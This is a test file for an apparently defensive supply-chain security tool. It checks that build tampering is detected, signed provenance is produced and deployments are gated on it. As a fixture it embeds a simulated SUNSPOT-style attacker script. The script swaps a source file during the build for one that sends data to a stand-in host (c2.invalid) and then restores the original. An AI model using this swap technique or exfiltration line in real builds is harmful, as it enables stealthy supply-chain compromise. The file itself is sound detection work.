import { spawn } from 'node:child_process';
import {
  copyFileSync,
  existsSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ScanResult } from '../src/core/result.js';
import { provenanceValidators } from './helpers/attest-schemas.js';
import { runCli } from './helpers/cli.js';
import { TestRepo } from './helpers/git-repo.js';

const NOT_CI = { CI: '', GITHUB_ACTIONS: '', GITLAB_CI: '' };
const BUILDER = 'https://ci.example.com/builders/release';

/*
 * The build: reads the source and bundles it. With SUNSPOT_HANDSHAKE=1 it marks when it starts and
 * when it has read its sources, which stands in for the attacker's process-watching in SUNSPOT
 * (it polled for MsBuild.exe) and makes the race deterministic in a test.
 */
const BUILD = `import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function waitFor(f) { const end = Date.now() + 30000; while (!existsSync(f) && Date.now() < end) await sleep(10); }
const hs = process.env.SUNSPOT_HANDSHAKE === '1';
mkdirSync('dist', { recursive: true });
if (hs) { writeFileSync('dist/.building', ''); await waitFor('dist/.swapped'); }
const src = readFileSync('src/greeting.js', 'utf8');
writeFileSync('dist/app.js', '// bundle\\n' + src);
if (hs) { writeFileSync('dist/.read', ''); await waitFor('dist/.restored'); }
`;

/** The attacker: waits for the build, swaps the source for a malicious one, restores it before the build ends. */
const SUNSPOT = `import { existsSync, renameSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
const [repo, stash] = process.argv.slice(2);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function waitFor(f) { const end = Date.now() + 60000; while (!existsSync(f)) { if (Date.now() > end) process.exit(3); await sleep(10); } }
await waitFor(join(repo, 'dist/.building'));
renameSync(join(repo, 'src/greeting.js'), join(stash, 'greeting.js'));
writeFileSync(join(repo, 'src/greeting.js'), 'export const greet = (n) => { fetch("https://c2.invalid/?" + n); return "hi " + n; };\\n');
writeFileSync(join(repo, 'dist/.swapped'), '');
await waitFor(join(repo, 'dist/.read'));
renameSync(join(stash, 'greeting.js'), join(repo, 'src/greeting.js'));
writeFileSync(join(repo, 'dist/.restored'), '');
`;

function project(): TestRepo {
  const repo = new TestRepo();
  repo.commit('app', {
    '.gitignore': 'dist/\n.vanguard/\n',
    'src/greeting.js': 'export const greet = (n) => "hi " + n;\n',
    'build.mjs': BUILD,
    'package.json': '{"name":"app","version":"1.0.0","dependencies":{"left-pad":"1.3.0"}}\n',
    'package-lock.json': JSON.stringify({
      name: 'app',
      version: '1.0.0',
      lockfileVersion: 3,
      packages: {
        '': { name: 'app', version: '1.0.0', dependencies: { 'left-pad': '1.3.0' } },
        'node_modules/left-pad': {
          version: '1.3.0',
          resolved: 'https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz',
          integrity: 'sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQEzNU=',
        },
      },
    }),
  });
  return repo;
}

const json = <T>(s: string): T => JSON.parse(s) as T;
const build = (repo: TestRepo, out: string, env: Record<string, string> = {}) =>
  runCli(
    [
      'build',
      '--artifacts',
      'dist/app.js',
      '--out',
      out,
      '--builder-id',
      BUILDER,
      '-f',
      'json',
      '--',
      process.execPath,
      'build.mjs',
    ],
    { cwd: repo.dir, env: { ...NOT_CI, ...env } },
  );

// Each step is a CLI run (a second or more of start-up on a loaded machine): generous time limits.
describe('build integrity end to end', { timeout: 240_000 }, () => {
  it('catches a Sunspot-style swap, and a clean rebuild, rebuild-compare and verify expose it', async () => {
    const repo = project();
    const commit = repo.git('rev-parse', 'HEAD').trim();
    const work = mkdtempSync(join(tmpdir(), 'vg-sunspot-'));
    writeFileSync(join(work, 'sunspot.mjs'), SUNSPOT);
    const attacker = spawn(process.execPath, [join(work, 'sunspot.mjs'), repo.dir, work], {
      stdio: 'ignore',
    });
    const attackerDone = new Promise<number | null>((r) => attacker.on('exit', r));

    const tampered = build(repo, '.vanguard/tampered', { SUNSPOT_HANDSHAKE: '1' });
    expect(await attackerDone).toBe(0);
    expect(tampered.code).toBe(1);
    const result = json<ScanResult>(tampered.stdout);
    const swap = result.findings.find((f) => f.ruleId === 'supply-chain/build-source-tampered');
    expect(swap).toMatchObject({
      severity: 'critical',
      phase: 'build',
      location: { path: 'src/greeting.js' },
    });
    expect(swap!.message).toMatch(/put back/);
    // The file is back: git sees a clean tree, and only the watch knows.
    expect(repo.git('status', '--porcelain')).toBe('');
    copyFileSync(join(repo.dir, 'dist/app.js'), join(work, 'app.js'));
    expect(readFileSync(join(work, 'app.js'), 'utf8')).toContain('c2.invalid');

    const v = provenanceValidators();
    const badProv = json<{
      predicate: { runDetails: { byproducts: { annotations: Record<string, unknown> }[] } };
    }>(readFileSync(join(repo.dir, '.vanguard/tampered/provenance.json'), 'utf8'));
    expect(v.statement(badProv), JSON.stringify(v.statement.errors)).toBe(true);
    expect(badProv.predicate.runDetails.byproducts[0]!.annotations).toMatchObject({
      tampered: true,
      tamperedPaths: ['src/greeting.js'],
    });
    const log = readFileSync(join(repo.dir, '.vanguard/tampered/watch.log.jsonl'), 'utf8');
    expect(log).toMatch(/"path":"src\/greeting.js","class":"tracked"/);

    // The independent, clean rebuild.
    rmSync(join(repo.dir, 'dist'), { recursive: true });
    const clean = build(repo, '.vanguard/clean');
    expect(clean.code, clean.stderr).toBe(0);
    expect(json<ScanResult>(clean.stdout).findings).toEqual([]);
    const prov = json<{ predicate: unknown; subject: unknown[] }>(
      readFileSync(join(repo.dir, '.vanguard/clean/provenance.json'), 'utf8'),
    );
    expect(v.statement(prov), JSON.stringify(v.statement.errors)).toBe(true);
    expect(v.slsa(prov.predicate), JSON.stringify(v.slsa.errors)).toBe(true);
    expect(JSON.stringify(prov)).toContain('pkg:npm/left-pad@1.3.0');

    const cmp = runCli([
      'rebuild-compare',
      join(work, 'app.js'),
      join(repo.dir, 'dist/app.js'),
      '-f',
      'json',
    ]);
    expect(cmp.code).toBe(1);
    const report = json<{ differences: { diff: string } }>(cmp.stdout);
    expect(report.differences.diff).toMatch(
      /^-export const greet = \(n\) => \{ fetch\("https:\/\/c2\.invalid/m,
    );
    expect(runCli(['rebuild-compare', join(repo.dir, 'dist'), join(repo.dir, 'dist')]).code).toBe(0);

    // Sign both and gate a deployment on them.
    const keys = join(work, 'keys');
    expect(runCli(['keys', 'generate', '--out', keys]).code).toBe(0);
    expect(statSync(join(keys, 'vanguard.key')).mode & 0o777).toBe(0o600);
    for (const [name, out] of [
      ['clean', 'clean.sigstore.json'],
      ['tampered', 'tampered.intoto.jsonl'],
    ]) {
      const s = runCli([
        'attest',
        'sign',
        join(repo.dir, `.vanguard/${name}/provenance.json`),
        '--key',
        join(keys, 'vanguard.key'),
        '--output',
        join(work, out!),
      ]);
      expect(s.code, s.stderr).toBe(0);
    }
    const gate = (artifact: string, prov: string) =>
      runCli([
        'verify',
        artifact,
        '--provenance',
        join(work, prov),
        '--key',
        join(keys, 'vanguard.pub'),
        '--commit',
        commit,
        '--builder-id',
        BUILDER,
        '-f',
        'json',
      ]);
    const ok = gate(join(repo.dir, 'dist/app.js'), 'clean.sigstore.json');
    expect(ok.code, ok.stdout + ok.stderr).toBe(0);
    const bad = gate(join(work, 'app.js'), 'tampered.intoto.jsonl');
    expect(bad.code).toBe(1);
    expect(json<ScanResult>(bad.stdout).findings.map((f) => f.ruleId)).toEqual([
      'supply-chain/provenance-records-tampering',
    ]);
    const swapped = gate(join(work, 'app.js'), 'clean.sigstore.json');
    expect(json<ScanResult>(swapped.stdout).findings.map((f) => f.ruleId)).toEqual([
      'supply-chain/provenance-subject-mismatch',
    ]);
  });

  it('reports a build that edits its sources, adds one, or starts dirty in CI; a failed build exits non-zero', () => {
    const repo = project();
    repo.write({
      'build.mjs':
        BUILD + "writeFileSync('src/greeting.js', 'changed');\nwriteFileSync('src/injected.js', 'x');\n",
    });
    const r = build(repo, '.vanguard/b', { CI: 'true' });
    expect(r.code).toBe(1);
    const ids = json<ScanResult>(r.stdout).findings.map((f) => `${f.ruleId} ${f.location.path}`);
    expect(ids).toEqual(
      expect.arrayContaining([
        'supply-chain/build-source-tampered src/greeting.js',
        'supply-chain/build-source-added src/injected.js',
        'supply-chain/build-uncommitted-changes build.mjs',
      ]),
    );
    const failing = project();
    failing.write({ 'build.mjs': 'process.exit(7);\n' });
    failing.commit('fail');
    const f = build(failing, '.vanguard/f');
    expect(f.code).toBe(1);
    expect(f.stderr).toMatch(/build command failed \(exit 7\)/);
    expect(existsSync(join(failing.dir, '.vanguard/f/provenance.json'))).toBe(false);
  });
});
